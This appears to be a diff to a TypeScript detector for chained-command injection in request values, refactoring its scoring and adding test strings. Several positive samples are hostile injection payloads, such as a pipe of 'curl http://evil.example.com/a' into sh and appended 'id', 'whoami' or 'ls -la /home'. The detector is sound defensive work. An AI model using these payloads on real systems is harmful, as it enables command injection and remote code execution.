@@ -17,6 +17,7 @@ import {
 } from '../../placement/command-place.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
+import { isAtValue } from '../../placement/value-place.ts';
 import { followsValue, wordsBefore } from '../../text/place.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
@@ -67,6 +68,9 @@ export const chainedCommand: ValueRule = {
     '10.0.0.1 & ver',
     'It came in a box that was too large;curl http://evil.example.com/a',
     'It came in a box that was too large && ls -la /home',
+    'It came too late, on 4/5 (again);curl http://evil.example.com/a|sh',
+    { body: { 'query.host': 'it came too late; ls -la /home' } },
+    { body: { email: 'it came too late || whoami' } },
     ...['example.com&set', 'localhost; date', 'x; killall ab #'],
     "The lamp came in a box that was much too large, it is broken'; id; echo 'and so on",
     'He said "it is so" when he was there\'; uname -a #',
@@ -133,6 +137,9 @@ export const chainedCommand: ValueRule = {
     ...['mix deps.get && iex -S mix', 'example.com | help', 'Release 2.0; set'],
     'It works for me after apt update && curl http://www.example.com/a',
     'The network is down; ping -c 3 192.0.2.1',
+    { body: { 'query.label': 'The network is down; ping -c 3 192.0.2.1' } },
+    { body: { 'query.category': 'name of the shop; id' } },
+    { body: { filename: 'apples and pears; tops & tails' } },
     'To see it, open a terminal && run curl http://www.example.com/a there',
     '10.0.0.1; find out more about it here',
     'In my script; for each file I do this, then sort the rest',
@@ -149,7 +156,7 @@ function judge(subject: Subject): Match | undefined {
   let best: Match | undefined;
   for (const command of reading.list) {
     if (!isChained(command)) continue;
-    let score = scoreOf(text, command, subject.where === 'name');
+    let score = scoreOf(subject, command);
     if (score > confidence.hint && isImageStep(text, command.head)) score = confidence.hint;
     if (score > (best?.score ?? 0)) best = { start: command.head.start, end: command.end, score };
     if (score >= confidence.certain) break;
@@ -172,21 +179,22 @@ function isChained({ head, chain }: Command): boolean {
   return head.introducer >= introducer.semicolon && head.introducer <= introducer.or;
 }
 
-/** `isName`: names of members are no lists, whatever is between their semicolons. */
-function scoreOf(text: string, command: Command, isName: boolean): number {
+function scoreOf(subject: Subject, command: Command): number {
+  const { text, where } = subject;
   const { head } = command;
   if (isAlternative(text, command)) return confidence.trace;
   if (isShownLoop(text, head)) return confidence.hint;
   if (command.name === 'echo' && program.test(text)) return confidence.hint;
   if (command.fit === fit.none) return 0;
-  const isValue = isPlaced(text, command);
+  const isValue = isPlaced(subject, command);
   switch (command.fit) {
     case fit.full:
       return fullScore(text, command, isValue);
     case fit.sureAlone:
       return sureScore(text, command, isValue);
     case fit.alone:
-      if (isName && isValue) return confidence.likely;
+      // Names of members are no lists, whatever is between their semicolons.
+      if (where === 'name' && isValue) return confidence.likely;
       return aloneScore(text, command, isValue && !isListItem(text, command), confidence.strong);
     case fit.aloneWord:
       return aloneWordScore(text, command, isValue);
@@ -201,8 +209,12 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
  * In a script that stands beside a value, or beside one itself; or behind the quote that ends the
  * literal, which may hold any sentence, where another goes on with it or a comment ends the line.
  */
-function isPlaced(text: string, { chain, head, closes, fit: found }: Command): boolean {
-  if (chain < head.start || followsValue(text, head.start)) return true;
+function isPlaced(subject: Subject, { chain, head, closes, fit: found }: Command): boolean {
+  const { text } = subject;
+  // In a sentence a short word behind a blank is one of a list.
+  const isWhole = found === fit.full || found === fit.sureAlone || isTight(text, head);
+  const isHere = isWhole ? isAtValue(subject, head.start) : followsValue(text, head.start);
+  if (chain < head.start || isHere) return true;
   return closes && found >= fit.alone && closing.test(text.slice(head.start - 4, head.start));
 }
 
